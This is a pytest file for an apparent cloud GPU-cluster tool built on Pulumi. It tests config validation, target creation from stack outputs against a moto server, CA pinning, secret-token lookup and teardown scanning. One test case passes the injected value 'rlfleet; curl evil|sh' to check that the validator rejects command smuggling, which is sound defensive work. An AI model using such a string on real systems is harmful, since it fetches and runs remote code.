"""Config validation messages, and the SDK side of cloud targets: target from a saved outputs
file, CA pinning and the aws-secret token against a real moto server, the no-CLI error."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import boto3
import pytest

from rlfleet import stack_outputs as so
from rlfleet.errors import ConfigError, ProvisionerError
from rlfleet.provisioners import for_kind, pulumi_stack
from rlfleet.targets import Target
from rlfleet_cloud.settings import StackConfigError, parse_settings

INFRA = Path(__file__).resolve().parents[2] / "infra_cloud"
PEM = b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"


def _parse(cloud: str = "aws", **cfg: str):
    return parse_settings(cloud, {"admin_cidrs": "203.0.113.0/24", **cfg}.get, stack="dev")


@pytest.mark.parametrize(("cfg", "message"), [
    ({"admin_cidrs": "10.0.0.300/32"}, r"admin_cidrs: '10\.0\.0\.300/32' is not a valid CIDR"),
    ({"admin_cidrs": "10.0.0.1/8"}, "has host bits set"),
    ({"admin_cidrs": "0.0.0.0/0"}, "would open SSH and the cluster API to the whole internet"),
    ({"admin_cidrs": '["::/0"]'}, "allow_world_control_ports=true"),
    ({"admin_cidrs": ""}, "admin_cidrs is required"),
    ({"gpu_type": "z100"}, r"unknown GPU type 'z100' for aws; known: a100, a10g"),
    ({"gpu_type": "l4"}, "g5.xlarge comes with a10g GPUs, not l4"),
    ({"worker_instance_type": "m5.large"}, "not a GPU type the kit knows"),
    ({"api_port": "6379"}, "one of Ray's own ports"),
    ({"worker_count": "many"}, "worker_count: 'many' is not a whole number"),
    ({"existing_network": "vpc-1"}, "existing_network and existing_subnet go together"),
    ({"kit_spec": "rlfleet; curl evil|sh"}, "kit_spec"),
])
def test_config_errors_name_the_key(cfg: dict, message: str) -> None:
    with pytest.raises(StackConfigError, match=message):
        _parse(**cfg)


def test_config_defaults_and_override() -> None:
    s = _parse()
    assert (s.worker_instance_type, s.gpu_type, s.gpu_count) == ("g5.xlarge", "a10g", 1)
    g = _parse("gcp")
    assert (g.worker_instance_type, g.gpu_type, g.gpu_count) == ("g2-standard-8", "nvidia-l4", 1)
    with pytest.raises(StackConfigError, match="unknown GPU type 'nvidia-z1'"):
        _parse("gcp", gpu_type="nvidia-z1")
    assert _parse("gcp", worker_instance_type="n1-standard-8", gpu_type="nvidia-tesla-t4", gpu_count="2").gpu_count == 2
    assert _parse(admin_cidrs="0.0.0.0/0", allow_world_control_ports="true").admin_cidrs == ("0.0.0.0/0",)


def test_pulumi_yaml_documents_every_key() -> None:
    import yaml

    keys = {"admin_cidrs", "worker_instance_type", "gpu_type", "gpu_count", "worker_count", "spot", "disk_size_gb",
            "idle_minutes", "max_lifetime_hours", "allow_world_control_ports", "existing_network", "existing_subnet"}
    for cloud in ("aws", "gcp"):
        cfg = yaml.safe_load((INFRA / cloud / "Pulumi.yaml").read_text())["config"]
        assert keys <= set(cfg), cloud
        assert all(v.get("description") for v in cfg.values())
        example = (INFRA / cloud / "Pulumi.dev.yaml").read_text()
        assert "secure:" not in example
        assert not [k for k in yaml.safe_load(example)["config"] if "token" in k or "password" in k]


def _outputs(bucket: str, secret_arn: str) -> dict:
    return {so.OUTPUT_RAY_ADDRESS: "https://198.51.100.7:8443", so.OUTPUT_ARTIFACT_ROOT: f"s3://{bucket}/rlfleet",
            so.OUTPUT_TOKEN_SECRET: f"aws-secret:{secret_arn}", so.OUTPUT_RAY_TOKEN: "must-not-be-copied",
            so.OUTPUT_CA_CERT_URI: f"s3://{bucket}/{so.CA_CERT_OBJECT}", so.OUTPUT_REGION: "us-east-1",
            so.OUTPUT_DASHBOARD_URL: "https://example/dash", so.OUTPUT_STACK_TAG: "dev"}


def test_target_from_outputs_file_against_moto(
    moto_reset: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RLFLEET_HOME", str(tmp_path / "home"))
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="rlfleet-dev-abc")
    arn = boto3.client("secretsmanager").create_secret(Name="rlfleet-dev-ray-token", SecretString="tok-123\n")["ARN"]
    out = tmp_path / "outputs.json"
    out.write_text(json.dumps(_outputs("rlfleet-dev-abc", arn)))

    with pytest.raises(ConfigError, match="has not published its CA certificate"):
        pulumi_stack.target_from("cloud1", outputs_file=str(out))
    s3.put_object(Bucket="rlfleet-dev-abc", Key=so.CA_CERT_OBJECT, Body=PEM)

    t = for_kind("aws").target_from("cloud1", outputs_file=str(out))
    assert (t.kind, t.ray_address, t.artifact_root) == ("aws", "https://198.51.100.7:8443", "s3://rlfleet-dev-abc/rlfleet")
    assert t.token_source == f"aws-secret:{arn}"
    assert Path(t.ca_cert).read_bytes() == PEM and t.ca_cert.endswith("ca/cloud1.pem")
    assert t.provisioner["stack_tag"] == "dev" and t.provisioner["region"] == "us-east-1"
    assert "must-not-be-copied" not in t.model_dump_json()
    assert t.token() == "tok-123"  # resolve_token reads Secrets Manager (moto)


def test_outputs_file_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="pulumi stack output --json --show-secrets"):
        pulumi_stack.target_from("x", outputs_file=str(tmp_path / "nope.json"))
    bad = tmp_path / "o.json"
    bad.write_text(json.dumps({so.OUTPUT_RAY_ADDRESS: "http://1.2.3.4:8265"}))
    with pytest.raises(ConfigError, match="lacks the output"):
        pulumi_stack.target_from("x", outputs_file=str(bad))
    good = _outputs("b", "arn:x")
    good[so.OUTPUT_RAY_ADDRESS] = "http://1.2.3.4:8265"
    bad.write_text(json.dumps(good))
    with pytest.raises(ConfigError, match="only reaches cloud heads over TLS"):
        pulumi_stack.target_from("x", outputs_file=str(bad), ca_cert=str(bad))
    with pytest.raises(ConfigError, match="exactly one of"):
        pulumi_stack.target_from("x")


def _target(**prov: str) -> Target:
    return Target(name="c", kind="aws", ray_address="https://1.2.3.4:8443", token_source="aws-secret:arn",
                  artifact_root="s3://b/rlfleet", provisioner={"type": "pulumi", **prov})


def test_without_pulumi_cli_up_and_down_say_how_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    t = _target(project_dir=str(INFRA / "aws"), stack="dev")
    for call in (lambda: pulumi_stack.up(t, echo=print), lambda: pulumi_stack.destroy(t, echo=print),
                 lambda: pulumi_stack.plan_destroy(t),
                 lambda: pulumi_stack.target_from("c", stack=str(INFRA / "aws" / "dev"))):
        with pytest.raises(ProvisionerError, match=r"the Pulumi CLI is not installed.*pulumi login"):
            call()
    with pytest.raises(ConfigError, match=r"has no Pulumi\.yaml"):
        pulumi_stack.target_from("c", stack="/tmp/dev")
    with pytest.raises(ConfigError, match="added from an outputs file"):
        pulumi_stack.up(_target(), echo=print)
    with pytest.raises(ProvisionerError, match="keeps the bucket"):
        pulumi_stack.destroy(t, delete_data=True, echo=print)


def test_describe_resources_excludes_retained_data() -> None:
    dep = {"resources": [
        {"type": "pulumi:pulumi:Stack", "urn": "u::s"},
        {"type": "rlfleet:aws:RayHead", "urn": "u::h"},
        {"type": "aws:ec2/instance:Instance", "urn": "u::rlfleet-dev-head-vm", "id": "i-1"},
        {"type": "aws:s3/bucket:Bucket", "urn": "u::b", "id": "rlfleet-dev-abc", "retainOnDelete": True},
    ]}
    assert pulumi_stack.describe_resources(dep) == ["aws:ec2/instance:Instance rlfleet-dev-head-vm (i-1)"]
    assert pulumi_stack.retained_resources(dep) == ["aws:s3/bucket:Bucket rlfleet-dev-abc"]


def test_scan_leftovers_is_the_sweep_that_down_uses(monkeypatch: pytest.MonkeyPatch) -> None:
    """One leftover scanner: the provisioner's scan_leftovers is the tag sweep's scan that
    'rlfleet down' verifies with (was: a second scanner down never called, without the IAM rule)."""
    from rlfleet.provisioners import registry
    from rlfleet.teardown import Leftover, aws

    seen: list[dict[str, object]] = []

    def scan_stack(stack: str, **conn: object) -> list[Leftover]:
        seen.append({"stack": stack, **conn})
        return [Leftover("aws", "ec2:instance", "i-1", region="us-east-1")]

    monkeypatch.setattr(aws, "scan_stack", scan_stack)
    t = _target(stack_tag="dev", region="us-east-1")
    sweep = registry.sweep_of(t)
    assert sweep is not None
    found = [Leftover("aws", "ec2:instance", "i-1", region="us-east-1")]
    assert pulumi_stack.scan_leftovers(t) == sweep.scan() == found
    # a bare stack name (made before stack ids) is shared by every region's stack: no global IAM pass
    assert seen == [{"stack": "dev", "region": "us-east-1", "include_iam": False}] * 2
    assert sweep.note is not None and "bare stack name 'dev'" in sweep.note


def test_importing_the_provisioner_stays_light() -> None:
    import subprocess

    code = ("import sys; import rlfleet.provisioners.pulumi_stack, rlfleet.stack_outputs; "
            "print(','.join(m for m in ('pulumi', 'pulumi_aws', 'pulumi_gcp', 'boto3') if m in sys.modules))")
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                         env={"PYTHONPATH": str(INFRA.parent / "sdk"), "PATH": "/usr/bin:/bin"})
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == ""
